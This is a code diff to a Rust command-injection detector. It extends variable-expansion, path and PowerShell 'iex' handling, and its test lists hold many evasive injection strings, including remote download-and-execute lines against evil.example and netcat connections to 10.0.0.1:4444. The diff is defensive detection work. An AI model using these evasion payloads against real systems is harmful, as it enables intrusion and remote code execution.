@@ -27,7 +27,7 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     let plain_token =
         !shape.whitespace() && !shape.has(const { Shape::mask(b"/\\'\"^{}()[]<>!~*?%") }) && !shape.control();
     let found = if separated {
-        let vars = match shape.has(const { Shape::mask(b"=") }) && shape.has(const { Shape::mask(b"$%") }) {
+        let vars = match shape.has(const { Shape::mask(b"$%") }) {
             true => Vars::of(v),
             false => Vars::NONE,
         };
@@ -39,7 +39,7 @@ pub(crate) fn check(v: &[u8], shape: Shape, full: bool, level: u8) -> Option<Hit
     };
     found
         .or_else(|| if shape.whitespace() || shape.has(const { Shape::mask(b"/") }) { batch(v) } else { None })
-        .or_else(|| if shape.has(const { Shape::mask(b"-(|") }) { powershell(v) } else { None })
+        .or_else(|| if shape.has(const { Shape::mask(b"-(|'\"$") }) { powershell(v) } else { None })
         .or_else(|| if level >= 2 && shape.line_break() { mail_protocol(v) } else { None })
 }
 
@@ -458,32 +458,53 @@ fn fence_line(v: &[u8], i: usize) -> Option<usize> {
 struct Vars<'a> {
     found: [(&'a [u8], &'a [u8]); MAX_VARS],
     len: usize,
+    /// Every name the value assigns, however (`a=`, `a+=`, `read a`, `for a in`), as two bits
+    /// of 64 each: whether a name is one is a lookup, with no cap on how many there are.
+    names: u64,
 }
 
 const MAX_VARS: usize = 8;
 
 impl<'a> Vars<'a> {
-    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0 };
+    const NONE: Vars<'static> = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: 0 };
 
-    /// One pass over `v`: a name (`[A-Za-z_][A-Za-z0-9_]*`) and `=` at a word's start after the
-    /// value's start, a separator or a blank (not after `$`, as PHP's and Perl's `$a=1` are),
-    /// its value up to a blank or a separator, or inside the quotes it opens.
+    /// One pass over `v`, at each word's start after the value's start, a separator, a blank or
+    /// a parenthesis (not after `$`, as PHP's and Perl's `$a=1` are): a name
+    /// (`[A-Za-z_][A-Za-z0-9_]*`) and `=` (or `+=`), its value up to a blank or a separator, or
+    /// inside the quotes it opens; the names `read` fills and `for` takes.
     fn of(v: &'a [u8]) -> Vars<'a> {
-        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0 };
+        let mut vars = Vars { found: [(b"", b""); MAX_VARS], len: 0, names: 0 };
         let mut i = 0;
-        while i < v.len() && vars.len < MAX_VARS {
+        while i < v.len() {
             let starts_word =
-                i == 0 || matches!(v[i - 1], b';' | b'&' | b'|' | b'\n' | b'\r' | b'`' | b'(' | b' ' | b'\t');
+                i == 0 || matches!(v[i - 1], b';' | b'&' | b'|' | b'\n' | b'\r' | b'`' | b'(' | b')' | b' ' | b'\t');
             if !starts_word || !(v[i].is_ascii_alphabetic() || v[i] == b'_') {
                 i += 1;
                 continue;
             }
             let name_len = v[i..].iter().take_while(|&&b| is_word(b)).count();
-            let after = i + name_len;
+            let (name, mut after) = (&v[i..i + name_len], i + name_len);
+            if matches!(name, b"read" | b"for") && v.get(after) == Some(&b' ') {
+                // `read -r a b`, `for a in ...`: the names after it (and an option's letters,
+                // which name nothing an expansion would).
+                let line_end = v[after..]
+                    .iter()
+                    .position(|&b| matches!(b, b';' | b'&' | b'|' | b'\n' | b'<'))
+                    .map_or(v.len(), |p| after + p);
+                for word in v[after..line_end].split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()) {
+                    vars.names |= Self::bits(word);
+                }
+                i = line_end;
+                continue;
+            }
+            if v.get(after) == Some(&b'+') && v.get(after + 1) == Some(&b'=') {
+                after += 1;
+            }
             if v.get(after) != Some(&b'=') {
                 i = after;
                 continue;
             }
+            vars.names |= Self::bits(name);
             let mut start = after + 1;
             let end = match v.get(start) {
                 Some(&q @ (b'\'' | b'"')) => {
@@ -495,14 +516,27 @@ impl<'a> Vars<'a> {
                     .position(|&b| b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b'`' | b')'))
                     .map_or(v.len(), |p| start + p),
             };
-            vars.found[vars.len] = (&v[i..after], &v[start..end]);
-            vars.len += 1;
+            if vars.len < MAX_VARS {
+                vars.found[vars.len] = (name, &v[start..end]);
+                vars.len += 1;
+            }
             i = end.max(after + 1);
         }
         vars
     }
 
-    /// What the expansion at `i` (`$0`, `${0}`, `$name`, `${name}`, `%name%`) stands for, and
+    fn bits(name: &[u8]) -> u64 {
+        let hash = name.iter().fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ b as u64).wrapping_mul(0x100_0000_01b3));
+        1 << (hash & 63) | 1 << ((hash >> 6) & 63)
+    }
+
+    /// Whether the value assigns `name` anywhere (rarely, a name it does not: two bits shared).
+    fn assigns(&self, name: &[u8]) -> bool {
+        let bits = Self::bits(name);
+        self.names & bits == bits
+    }
+
+    /// What the expansion at `i` (`$name`, `${name}`, `%name%`) stands for, and
     /// where it ends; `None` when it is no expansion or names nothing the value assigned.
     fn expansion(&self, v: &[u8], i: usize) -> Option<(&'a [u8], usize)> {
         let rest = &v[i + 1..];
@@ -511,7 +545,6 @@ impl<'a> Vars<'a> {
                 let close = rest.iter().position(|&b| b == b'}')?;
                 (&rest[1..close], i + 2 + close)
             }
-            (b'$', Some(b'0')) => (&rest[..1], i + 2),
             (b'%', _) => {
                 let close = rest.iter().take(32).position(|&b| b == b'%')?;
                 (&rest[..close], i + 2 + close)
@@ -524,11 +557,11 @@ impl<'a> Vars<'a> {
         if name.is_empty() || !name.iter().all(|&b| is_word(b)) {
             return None;
         }
-        if v[i] == b'$' && name == b"0" {
-            return Some((b"sh", end));
-        }
         if v[i] == b'%' && name.eq_ignore_ascii_case(b"comspec") {
             return Some((b"cmd", end));
+        }
+        if v[i] == b'%' && (name.eq_ignore_ascii_case(b"windir") || name.eq_ignore_ascii_case(b"systemroot")) {
+            return Some((b"c:/windows", end));
         }
         // The last assignment of that name (cmd's names ignore case, a shell's do not).
         let same = |n: &[u8]| if v[i] == b'%' { n.eq_ignore_ascii_case(name) } else { n == name };
@@ -554,6 +587,21 @@ impl Word {
     /// Adds a byte while there is room (a longer word is no command anyway).
     fn push(&mut self, b: u8) {
         self.pathed |= b == b'/';
+        // `//` and `/./` name no directory: a run of them (`/./././usr/bin/id`) is one `/`.
+        if b == b'/' && self.buf[..self.len].ends_with(b"/.") {
+            self.len -= 1;
+            return;
+        }
+        if b == b'/' && self.buf[..self.len].ends_with(b"/") {
+            return;
+        }
+        if self.len == self.buf.len() && self.pathed {
+            // Only the last name of a long path is the command: keep it, from its `/`.
+            if let Some(slash) = self.buf.iter().rposition(|&c| c == b'/') {
+                self.buf.copy_within(slash..self.len, 0);
+                self.len -= slash;
+            }
+        }
         if self.len < self.buf.len() {
             self.buf[self.len] = b;
             self.len += 1;
@@ -576,7 +624,7 @@ fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
         i += 1;
     }
     // A Windows drive (`c:\windows\system32\whoami.exe`): its backslashes are the path's.
-    let drive = v.get(i).is_some_and(u8::is_ascii_alphabetic)
+    let mut drive = v.get(i).is_some_and(u8::is_ascii_alphabetic)
         && v.get(i + 1) == Some(&b':')
         && matches!(v.get(i + 2), Some(b'\\' | b'/'));
     if drive {
@@ -629,9 +677,15 @@ fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
             }
             b'$' | b'%' => match vars.expansion(v, i) {
                 Some((value, end)) => {
+                    // Inside a word (`who%a%`), an evasion; the whole word, what it stands for.
+                    w.evasive |= w.len > 0 && !w.expanded;
                     w.expanded = w.len == 0 || w.expanded;
-                    w.evasive = true;
-                    for &c in value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/".contains(&c)) {
+                    // `%windir%\system32\...`: a drive's path goes on with backslashes.
+                    drive |= value.contains(&b':');
+                    for &c in value.iter().take_while(|&&c| c.is_ascii_alphanumeric() || b"-_.+/:".contains(&c)) {
+                        if c == b':' {
+                            continue;
+                        }
                         w.push(c.to_ascii_lowercase());
                     }
                     i = end;
@@ -641,9 +695,8 @@ fn read_command(v: &[u8], mut i: usize, vars: &Vars<'_>) -> (Word, usize) {
             _ if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+') => {
                 w.expanded = false;
                 w.capital |= b.is_ascii_uppercase();
-                if w.len < w.buf.len() {
-                    w.buf[w.len] = b.to_ascii_lowercase();
-                    w.len += 1;
+                if w.len < w.buf.len() || w.pathed {
+                    w.push(b.to_ascii_lowercase());
                 } else {
                     // Longer than any command: not one. It ends where a shell's word does: a
                     // blank or an operator (read past operators, a value of many `;` and long
@@ -1144,6 +1197,11 @@ fn commands(v: &[u8], level: u8, vars: &Vars<'_>) -> Option<Hit> {
 
 #[inline(never)]
 fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: u8, vars: &Vars<'_>) -> Option<Hit> {
+    if !at_start {
+        if let Some(end) = expansion_command(v, at, separator_len, vars) {
+            return hit(1, at, (end + 24).min(v.len()), level);
+        }
+    }
     let (word, end) = read_command(v, at + separator_len, vars);
     let mut text = word.text();
     let mut kind = classify(text);
@@ -1158,19 +1216,32 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
     let mut next = follow(v, end);
     // `time sh -c id`, `nohup curl ...`: a prefix runs the command after it; a shell's own
     // (`exec id`, `command id`, cmd's `call %a%`) whatever the command is.
+    // cmd's `call %a:~0,6%`: whatever the expansion makes is run.
+    if text == b"call" && matches!(v[end..].trim_ascii_start().first(), Some(b'%' | b'!')) && !at_start {
+        return hit(1, at, (end + 24).min(v.len()), level);
+    }
     let options = next == Follow::ShellArgument && runs_next(text);
     if (next == Follow::Word || options) && is_prefix(text) {
-        // `command -p id`, `sudo -u root id`: the prefix's own options first.
-        let (inner, inner_end) = read_command(v, if options { after_options(v, end) } else { end }, vars);
-        if let Some(inner_kind) = classify(inner.text()) {
+        // `command -p id`, `sudo -u root id`: the prefix's own options first; `builtin exec id`:
+        // a prefix of a prefix, a few deep.
+        let mut prefix = word.text();
+        let mut from = if options { after_options(v, end) } else { end };
+        for _ in 0..3 {
+            let (inner, inner_end) = read_command(v, from, vars);
+            let Some(inner_kind) = classify(inner.text()) else { break };
             let inner_next = follow(v, inner_end);
             let runs = inner_kind == Kind::Rare
                 || inner_next == Follow::ShellArgument
-                || (inner.evasive && inner.len > 1)
-                || (!at_start && runs_next(text) && matches!(inner_next, Follow::End | Follow::Operator));
+                || ((inner.evasive || inner.expanded) && inner.len > 1)
+                || (!at_start && runs_next(prefix) && matches!(inner_next, Follow::End | Follow::Operator));
             if runs {
                 return hit(1, at, (inner_end + 24).min(v.len()), level);
             }
+            if inner_next != Follow::Word || !runs_next(inner.text()) {
+                break;
+            }
+            prefix = if inner.text() == b"exec" { b"exec" } else { b"command" };
+            from = inner_end;
         }
     }
     let kind = kind?;
@@ -1183,8 +1254,10 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
     }
     let lvl = match (at_start, kind, next) {
         (_, _, Follow::Other) => return None,
-        // `; $0 shipping`: a price, not the shell (`;$0 -c id`, `|$0` are).
-        (_, _, Follow::Word) if word.expanded && !argument_like(v, end) => 2,
+        // A command word a shell builds from the value's own variables (`a=id;$a`, cmd's
+        // `set a=whoami& %a%`): a sentence after it is still no command line.
+        (false, _, Follow::Word) if word.expanded && !argument_like(v, end) => 2,
+        (false, _, _) if word.expanded && word.len > 1 => 1,
         (_, _, _) if word.evasive && word.len > 1 => 1,
         (false, Kind::Rare, _) => 1,
         // `; sleep 5`, `| host evil.com`: a command line of its own after the separator, with
@@ -1212,7 +1285,13 @@ fn command_at(v: &[u8], at: usize, separator_len: usize, at_start: bool, level: 
             // `NC 27601`, `NC State`: Unix runs no `NC`; `dig deeper`, `env vars`: words of
             // English first, so only an argument makes them a command line.
             let prose = word.capital || everyday_word(text);
-            if argument_like(v, end) && !word.capital || short_line(v) && !prose {
+            // Windows reads names in any case: a capital only makes prose of a word whose
+            // argument is no more than a number (`NC 27601`), not a host or a path (`Nc 10.0.0.1`).
+            let argument = match word.capital {
+                true => host_or_path_argument(v, end),
+                false => argument_like(v, end),
+            };
+            if argument || short_line(v) && !prose {
                 1
             } else {
                 2
@@ -1240,6 +1319,89 @@ fn argument_like(v: &[u8], i: usize) -> bool {
             || (!word.is_empty() && word.iter().all(u8::is_ascii_digit))
             || word.iter().any(|b| matches!(b, b'.' | b'/' | b'=' | b'@' | b':'))
     })
+}
+
+/// As [`argument_like`], without a bare number: an option, a host, a path, an address.
+fn host_or_path_argument(v: &[u8], i: usize) -> bool {
+    let line = &v[i..];
+    let line = &line[..line.iter().position(|&b| b == b'\n' || b == b'\r').unwrap_or(line.len())];
+    line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).any(|word| {
+        let word = word.strip_suffix(b".").or_else(|| word.strip_suffix(b",")).unwrap_or(word);
+        let option = word.len() > 1 && word[0] == b'-' && (word[1].is_ascii_alphanumeric() || word[1] == b'-');
+        option || word.iter().any(|b| matches!(b, b'.' | b'/' | b'\\' | b'@' | b':'))
+    })
+}
+
+/// A command whose word is an expansion no prose writes where a command starts, after the
+/// separator at `at`; returns where the expansion ends. A shell variable (`;$a`, `;${a}`,
+/// `;$_ -c id`, however it was filled: `b=$a`, `read a`, `for a in`, an array) with a command
+/// line's follower; ANSI-C quoting (`;$'\x69d'`); the shell itself, `$0`, only with an option
+/// or at a pipe's end (`$0/mo`, `Fee|$0|waived` are prices); cmd's substring and replacement
+/// (`%a:~0,6%`, `%a:X=%`); PowerShell's call of what a lookup or a string names
+/// (`&(gcm who*)`, `.('i'+'ex')`). Money is `$` and a digit, and stays prose.
+fn expansion_command(v: &[u8], at: usize, separator_len: usize, vars: &Vars<'_>) -> Option<usize> {
+    let mut i = at + separator_len;
+    while i < v.len() && matches!(v[i], b' ' | b'\t' | b'"' | b'{' | b'(') {
+        i += 1;
+    }
+    // A compound command's keyword opens a command too (`for a in x;do $a;done`).
+    for keyword in [&b"do "[..], b"then ", b"else ", b"! "] {
+        if v[i..].starts_with(keyword) {
+            i += keyword.len();
+            break;
+        }
+    }
+    let rest = &v[i..];
+    match rest {
+        [b'$', b'\'', ..] => Some(i + 2),
+        [b'$', b'{', c, ..] | [b'$', c, ..] if c.is_ascii_alphabetic() || *c == b'_' => {
+            let braced = rest[1] == b'{';
+            let name_start = if braced { 2 } else { 1 };
+            let name = rest[name_start..].iter().take_while(|&&b| is_word(b)).count();
+            let mut end = i + name_start + name;
+            if braced {
+                if v.get(end) != Some(&b'}') {
+                    return None;
+                }
+                end += 1;
+            }
+            // A variable the value fills itself, or `$_` (the last command's last word); one
+            // it never sets is empty to a shell (`;$a $b $c` runs nothing: CRS's own example).
+            let name = &v[i + name_start..i + name_start + name];
+            let known = vars.assigns(name) || name == b"_";
+            let runs = match follow(v, end) {
+                Follow::End | Follow::Operator | Follow::ShellArgument => true,
+                Follow::Word => name != b"_",
+                Follow::Other => false,
+            };
+            (known && runs).then_some(end)
+        }
+        [b'$', b'{', b'0', b'}', ..] | [b'$', b'0', ..] => {
+            let end = i + if rest[1] == b'{' { 4 } else { 2 };
+            let end = if v.get(end) == Some(&b'"') { end + 1 } else { end };
+            let piped = v[at] == b'|' && v[end..].iter().all(u8::is_ascii_whitespace);
+            let after = v[end..].trim_ascii_start();
+            let option = matches!(after, [b'-', c, ..] if c.is_ascii_alphabetic()) || after.starts_with(b"<");
+            (piped || (option && end < v.len() && v[end] == b' ')).then_some(end)
+        }
+        [b'%', ..] => {
+            let name = rest[1..].iter().take_while(|&&b| is_word(b)).count();
+            let tail = &rest[1 + name..];
+            let edits = name > 0
+                && (tail.starts_with(b":~") || {
+                    let close = tail.iter().take(64).position(|&b| b == b'%');
+                    tail.first() == Some(&b':') && close.is_some_and(|c| tail[..c].contains(&b'='))
+                });
+            edits.then_some(i + 1 + name)
+        }
+        [b'&' | b'.', b'(', ..] | [b'&' | b'.', b' ', b'(', ..] => {
+            let inner = rest[rest.iter().position(|&b| b == b'(')? + 1..].trim_ascii_start();
+            let named = matches!(inner.first(), Some(b'\'' | b'"' | b'$'))
+                || [&b"gcm"[..], b"gal", b"get-command", b"get-alias"].iter().any(|p| starts_with_ci(inner, p));
+            named.then_some(i + 2)
+        }
+        _ => None,
+    }
 }
 
 /// Where the command line that goes on at `i` ends: its line's end or the next separator.
@@ -1586,9 +1748,6 @@ fn powershell(v: &[u8]) -> Option<Hit> {
         b"nettcpconnection",
         b"history",
     ];
-    if starts_with_ci(v, b"iex") && v.get(3).is_some_and(|&b| b == b'(' || b == b' ') {
-        return Some(Hit::new(1, 0, v.len().min(16)));
-    }
     if let Some(at) = invoke_expression(v) {
         return Some(Hit::new(1, at, (at + 24).min(v.len())));
     }
@@ -1618,27 +1777,37 @@ fn powershell(v: &[u8]) -> Option<Hit> {
     None
 }
 
-/// PowerShell's `iex` (Invoke-Expression) after a separator, running what it is given:
-/// `; iex(iwr evil.example)`, `; iex (New-Object Net.WebClient)...`, or at a pipe's end,
-/// `... | iex`. The stock exchange of the same name is followed by prose, not by code.
+/// PowerShell's `iex` (Invoke-Expression) where a command starts, given code: `iex(iwr ...)`,
+/// `iex (New-Object ...)`, `iex 'whoami'`, `iex $a`; or at a pipe's end after what fetched or
+/// built it (`iwr evil.example | iex`, `(...).Content | iex`). The stock exchange of the same
+/// name (`IEX (Investors Exchange)`, `NYSE | IEX`) and Elixir's prompt (`iex(1)>`) are not.
 fn invoke_expression(v: &[u8]) -> Option<usize> {
     let mut from = 0;
     while let Some(at) = find_ci(v, b"iex", from) {
         from = at + 3;
+        if (at > 0 && is_word(v[at - 1])) || v.get(at + 3).is_some_and(|&b| is_word(b)) {
+            continue;
+        }
         let before = v[..at].trim_ascii_end();
-        let separated = matches!(before.last(), Some(b';' | b'|' | b'&' | b'\n' | b'\r' | b'('));
-        if !separated || v.get(at + 3).is_some_and(|&b| is_word(b)) {
+        if !before.last().is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'(')) {
             continue;
         }
         let rest = v[at + 3..].trim_ascii_start();
-        let piped = before.last() == Some(&b'|') && rest.first().is_none_or(|b| matches!(b, b';' | b')' | b'|'));
-        let code = rest.strip_prefix(b"(").map(<[u8]>::trim_ascii_start).is_some_and(|arg| {
-            matches!(arg.first(), Some(b'[' | b'$' | b'(' | b'\'' | b'"'))
-                || [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
+        let argument = rest.strip_prefix(b"(").map_or(rest, <[u8]>::trim_ascii_start);
+        let code = matches!(argument.first(), Some(b'[' | b'$' | b'(' | b'\'' | b'"'))
+            || [&b"iwr"[..], b"irm", b"new-object", b"invoke-", b"gc ", b"get-content"]
+                .iter()
+                .any(|p| starts_with_ci(argument, p));
+        let piped = before.last() == Some(&b'|') && rest.first().is_none_or(|b| matches!(b, b';' | b')')) && {
+            let left = before[..before.len() - 1].trim_ascii_end();
+            let segment =
+                &left[left.iter().rposition(|b| matches!(b, b';' | b'|' | b'&' | b'\n')).map_or(0, |p| p + 1)..];
+            segment.ends_with(b")")
+                || [&b"iwr"[..], b"irm", b"invoke-", b"downloadstring", b"wget", b"curl", b"get-content"]
                     .iter()
-                    .any(|p| starts_with_ci(arg, p))
-        });
-        if piped || code {
+                    .any(|p| find_ci(segment, p, 0).is_some())
+        };
+        if code || piped {
             return Some(at);
         }
     }
@@ -1883,8 +2052,35 @@ mod tests {
             "& c:\\windows\\system32\\whoami.exe",
             "; iex(iwr evil.example)",
             "x; iex (New-Object Net.WebClient).DownloadString('http://evil.example/a')",
-            "x | iex",
-            "x | IEX;",
+            "x; iwr http://evil.example/a | iex",
+            "x; (iwr http://evil.example/x).Content | IEX;",
+            "x; iex 'whoami'",
+            "x; $a='whoami'; iex $a",
+            // Tester m1: each ran `id` (or `whoami`) in bash or dash, or does in cmd or PowerShell.
+            "x;a=id;b=$a;$b",
+            "x;a=i\\d;$a",
+            "x;a=i\"d\";$a",
+            "x;a=i;a=${a}d;$a",
+            "x;v1=1;v2=1;v3=1;v4=1;v5=1;v6=1;v7=1;v8=1;z=whoami;$z",
+            "x;a+=whoami;$a",
+            "x;a=(id);$a",
+            "x;read a<<<whoami;$a",
+            "x;for a in whoami;do $a;done",
+            "x;case x in x)a=whoami;;esac;$a",
+            "x;$'\\x69d'",
+            "x;: bash;$_ -c id",
+            "x;builtin exec id",
+            "x;a=`echo id`;$a",
+            "x;a=nc;$a evil 4444",
+            "x;/./././././././././././././././././././usr/bin/id",
+            "x;//////////////////////////////////////////usr/bin/id",
+            "x& C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -c whoami",
+            "x& %SystemRoot%\\System32\\whoami.exe",
+            "x& set a=whoamiX& call %a:~0,6%",
+            "x& %COMSPEC:~-7% /c whoami",
+            "x; & (gcm who*)",
+            "x; .('i'+'ex') 'whoami'",
+            "x|$0",
         ] {
             assert!(cmdi(s, 1), "{s}");
         }
@@ -1899,6 +2095,26 @@ mod tests {
             "Great service; command center was helpful",
             "Listed on Nasdaq; IEX (Investors Exchange) too",
             "x; iex is a stock exchange",
+            "IEX (Investors Exchange)",
+            "Venues: NYSE | NASDAQ | IEX",
+            "Exchanges: NYSE|IEX|ARCA",
+            "iex(1)> Enum.map([1,2], &(&1*2))",
+            // Prices (tester m1): `$0` is the shell only with an option or at a pipe's end.
+            "$0",
+            "$0/mo",
+            "$0 down, $199/mo",
+            "$0 down; $199/mo for 24 months",
+            "Fee|$0|waived",
+            "$0 | $5 | $10",
+            "$0 deductible; 80/20 coinsurance",
+            "Shipping; $0 to 10001",
+            "${0}",
+            "%COMSPEC%",
+            "Items: $5; $1",
+            // Variables no one set run nothing (CRS's own benign example), nor do PHP's.
+            ";$a $b $c",
+            "PHP: $a = 1; $b = $a + 1;",
+            "Then $a; $b->run();",
         ] {
             assert!(!cmdi(s, 1), "{s}");
         }
@@ -1934,6 +2150,11 @@ mod tests {
             "dir/s c:\\",
             "nc 10.0.0.1 4444",
             "curl evil.example",
+            // Windows reads a command's name in any case (tester m1).
+            "CURL http://evil.example/x.ps1",
+            "Nslookup evil.example",
+            "Nc 10.0.0.1 4444",
+            "Wget evil.example/x.exe",
             "ls foo bar",
         ] {
             assert!(cmdi(s, 1), "{s}");
